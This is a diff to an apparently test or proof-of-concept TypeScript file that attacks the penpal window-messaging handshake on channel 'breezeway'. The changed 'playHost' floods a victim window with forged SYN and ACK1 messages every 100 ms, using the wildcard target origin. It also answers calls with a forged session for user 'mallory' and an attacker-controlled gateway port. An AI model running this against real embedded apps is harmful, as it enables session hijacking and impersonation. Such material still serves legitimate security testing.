@@ -1,39 +1,29 @@
-import { connect, Reply, WindowMessenger } from "penpal";
-
-/** Answers the handshake of an embedded guest as a host would. */
-export function playHost(remoteWindow: Window): void {
-  const { promise } = connect({
-    messenger: new WindowMessenger({ remoteWindow, allowedOrigins: ["*"] }),
-    channel: "breezeway",
-    methods: {
-      hello() {
-        const { port1, port2 } = new MessageChannel();
-        port1.start();
-        return new Reply(forgedAnswer(port2), { transferables: [port2] });
-      },
-    },
-  });
-  promise.catch(() => undefined);
-}
+const HEADER = { namespace: "penpal", channel: "breezeway" };
+const PERSISTENCE_MS = 100;
 
 /**
- * Pushes a handshake through with a window that does not know this one: the guest's own messages go
- * to its parent, so the attacker sends the last step without having seen the ones before.
+ * Plays the host to another window: offers itself again and again, whether or not it has been greeted,
+ * and answers a hello if one ever comes.
  */
-export function pushHandshake(victim: Window): void {
-  const header = { namespace: "penpal", channel: "breezeway" };
-  const { port1, port2 } = new MessageChannel();
-  port1.addEventListener("message", ({ data }) => {
-    const call = data as { type?: unknown; id?: unknown };
-    if (call.type !== "CALL") return;
-    const channel = new MessageChannel();
-    channel.port1.start();
-    const reply = { ...header, type: "REPLY", callId: call.id };
-    port1.postMessage({ ...reply, value: forgedAnswer(channel.port2) }, [channel.port2]);
+export function playHost(victim: Window): void {
+  const offer = (): void => {
+    victim.postMessage({ ...HEADER, type: "SYN", participantId: "~attacker" }, "*");
+    victim.postMessage({ ...HEADER, type: "ACK1", methodPaths: [["hello"]] }, "*");
+  };
+  addEventListener("message", ({ ports }) => {
+    const [port] = ports;
+    port?.addEventListener("message", ({ data }) => {
+      const call = data as { type?: unknown; id?: unknown };
+      if (call.type !== "CALL") return;
+      const channel = new MessageChannel();
+      channel.port1.start();
+      const value = forgedAnswer(channel.port2);
+      port.postMessage({ ...HEADER, type: "REPLY", callId: call.id, value }, [channel.port2]);
+    });
+    port?.start();
   });
-  port1.start();
-  victim.postMessage({ ...header, type: "SYN", participantId: "attacker" }, "*");
-  victim.postMessage({ ...header, type: "ACK2" }, "*", [port2]);
+  setInterval(offer, PERSISTENCE_MS);
+  offer();
 }
 
 /** A welcome of the attacker's, with a gateway of the attacker's. */
@@ -49,7 +39,6 @@ function forgedAnswer(port: MessagePort): { welcome: unknown; port: MessagePort 
     session: { userId: "mallory", tenantId: "acme", handle: "forged" },
     token: null,
     gatewayUrl: location.origin,
-    nowMs: Date.now(),
   };
   return { welcome, port };
 }
